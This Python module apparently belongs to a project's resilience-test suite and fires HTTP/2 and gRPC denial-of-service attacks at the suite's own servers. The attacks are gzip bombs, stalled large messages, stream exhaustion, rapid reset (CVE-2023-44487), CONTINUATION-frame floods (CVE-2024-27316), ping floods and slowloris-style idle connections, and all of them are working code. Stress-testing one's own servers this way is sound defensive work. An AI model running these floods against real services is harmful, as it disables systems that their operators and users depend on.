"""Attack by connections: without a token, and with hardly a valid call."""

import asyncio
import ssl
import time
from collections import Counter
from collections.abc import AsyncIterator, Awaitable, Callable, Sequence
from contextlib import AsyncExitStack, asynccontextmanager, suppress

from h2.exceptions import ProtocolError
from hyperframe.frame import ContinuationFrame, HeadersFrame

from benchmarks.attacks.target import PUBLIC, Answers, AttackTarget, path_of
from lab.fixtures.raw_http2 import RawConnection, gzip_bomb, message_prefix, open_streams, raw_connection

MIB = 1 << 20
LARGE = 31 * MIB
HOLD_S = 5.0
WORK_LIMIT_S = 20.0
ANSWER_S = 8.0
HEALTH = b"GET /health HTTP/1.1\r\nHost: localhost\r\n\r\n"


@asynccontextmanager
async def attacked(target: AttackTarget, address: str) -> AsyncIterator[RawConnection]:
    """Connect to a process of the suite. Count errors that break the connection inside the block; raise none."""
    context = None
    if ca := target.certificate(address):
        context = ssl.create_default_context(cafile=ca)
        context.set_alpn_protocols(["h2"])
    async with raw_connection(address, context, authority=address) as connection:
        try:
            yield connection
        except (OSError, ProtocolError) as error:
            connection.answers[type(error).__name__] += 1


async def on_all(
    target: AttackTarget, work: Callable[[RawConnection, str], Awaitable[None]], copies: int = 1
) -> Answers:
    """Do the same work on `copies` connections to every process and the public port, each with an RPC of its path."""

    async def one(process: str, address: str) -> Answers:
        try:
            async with attacked(target, address) as connection:
                try:
                    async with asyncio.timeout(WORK_LIMIT_S):
                        await work(connection, path_of(target.methods(process)[0]))
                except TimeoutError:
                    connection.answers["NOT DONE IN TIME"] += 1
        except (OSError, TimeoutError):
            return Counter(["NOT CONNECTED"])
        return connection.answers

    found = await asyncio.gather(*(one(*item) for item in target.addresses.items() for _ in range(copies)))
    return sum(found, Counter())


async def gzip_bombs(target: AttackTarget) -> Answers:
    """Send 16 messages of 32 KB that inflate to 31 MiB, to every port."""
    body = gzip_bomb(LARGE)

    async def throw(connection: RawConnection, path: str) -> None:
        for _ in range(8):
            stream = await connection.headers(path, extra=(("grpc-encoding", "gzip"),))
            await connection.data(stream, body, end=True)
        await connection.all_answered(ANSWER_S)

    return await on_all(target, throw, copies=2)


async def gzip_bombs_with_a_token(target: AttackTarget) -> Answers:
    """Send the same as a user of the public API, with a valid token."""
    body = gzip_bomb(LARGE)
    path = path_of(target.methods(PUBLIC)[0])
    async with attacked(target, target.public) as connection:
        for _ in range(16):
            stream = await connection.headers(path, target.tokens["user"], (("grpc-encoding", "gzip"),))
            await connection.data(stream, body, end=True)
        await connection.all_answered(ANSWER_S)
    return connection.answers


async def unfinished_messages(target: AttackTarget) -> Answers:
    """Open 24 streams at every port that announce 31 MiB and stop one byte before the end, or at the time limit."""
    body = memoryview(message_prefix(LARGE) + bytes(LARGE - 1))

    async def hold(connection: RawConnection, path: str) -> None:
        streams = [await connection.headers(path) for _ in range(6)]
        with suppress(TimeoutError):
            async with asyncio.timeout(ANSWER_S):
                for start in range(0, len(body), MIB):
                    for stream in streams:
                        await connection.data(stream, bytes(body[start : start + MIB]))
        await connection.all_answered(HOLD_S)

    return await on_all(target, hold, copies=4)


async def header_only_streams(target: AttackTarget) -> Answers:
    """Open streams with headers and no message, up to the connection's limit, on four connections per port."""

    async def hold(connection: RawConnection, path: str) -> None:
        for _ in range(500):
            await connection.headers(path)
        await connection.all_answered(HOLD_S)

    return await on_all(target, hold, copies=4)


async def rapid_resets(target: AttackTarget) -> Answers:
    """Open streams and reset them immediately, for six seconds (CVE-2023-44487)."""

    async def reset(connection: RawConnection, path: str) -> None:
        end, sent = time.monotonic() + 6.0, 0
        while time.monotonic() < end:
            await connection.reset(await connection.headers(path))
            sent += 1
            await asyncio.sleep(0)
        connection.answers["RESETS SENT"] += sent

    return await on_all(target, reset)


async def huge_metadata(target: AttackTarget) -> Answers:
    """Send calls with a quarter of a megabyte of metadata."""
    extra = tuple((f"x-{number}", "a" * 4096) for number in range(64))

    async def send(connection: RawConnection, path: str) -> None:
        for _ in range(5):  # The attacker's library is slow with each.
            await connection.headers(path, extra=extra)
        await connection.all_answered(ANSWER_S)

    return await on_all(target, send)


async def endless_headers(target: AttackTarget) -> Answers:
    """Send 32 MB of headers in endless continuation frames (CVE-2024-27316)."""
    field = b"\x40\x01a\x7f\xfb\x7e" + b"b" * 16_378  # a literal header that fills a frame

    async def flood(connection: RawConnection, path: str) -> None:
        await connection.raw(HeadersFrame(1, field).serialize())
        for _ in range(2000):
            await connection.raw(ContinuationFrame(1, field).serialize())
        await connection.all_answered(1.0)

    return await on_all(target, flood)


async def ping_flood(target: AttackTarget) -> Answers:
    """Send 10,000 pings per connection."""

    async def ping(connection: RawConnection, path: str) -> None:
        for _ in range(10_000):
            await connection.ping()

    return await on_all(target, ping)


async def silent_connections(target: AttackTarget) -> Answers:
    """Open 200 connections to the public port that send nothing, and 200 that send half a greeting."""
    async with AsyncExitStack() as stack:
        answers = await opened(stack, target.public, 400, (b"", b"PRI * HTTP/2.0\r\n"))
        await asyncio.sleep(HOLD_S)
    return answers


async def silent_http_connections(target: AttackTarget) -> Answers:
    """Open 1,500 connections to the HTTP port, more than its limit: a third sends nothing, a third half a head, the
    others call once and stay. Another client checks the health endpoint during this."""
    async with AsyncExitStack() as stack:
        answers = await opened(stack, target.http, 1500, (b"", HEALTH[:20], HEALTH))
        began = time.monotonic()
        while time.monotonic() - began < HOLD_S:
            answers[f"ANOTHER CLIENT: {await health_of(target.http)}"] += 1
            await asyncio.sleep(0.25)
    return answers


async def opened(stack: AsyncExitStack, address: str, count: int, sent: Sequence[bytes]) -> Answers:
    """Open connections until the stack closes, and send on each the next bytes of `sent`, in turn."""
    answers: Answers = Counter()
    for number in range(count):
        try:
            _, writer = await open_streams(address)
        except OSError as error:
            answers[type(error).__name__] += 1
            continue
        stack.callback(writer.close)
        writer.write(sent[number % len(sent)])
        answers["CONNECTED"] += 1
    return answers


async def health_of(address: str) -> str:
    """Return the health status that a client on a separate connection receives."""
    try:
        async with asyncio.timeout(ANSWER_S):
            reader, writer = await open_streams(address)
            writer.write(HEALTH)
            line = await reader.readline()
            writer.close()
    except (OSError, TimeoutError):
        return "NOT ANSWERED"
    return line.decode("latin-1").strip() or "CLOSED"
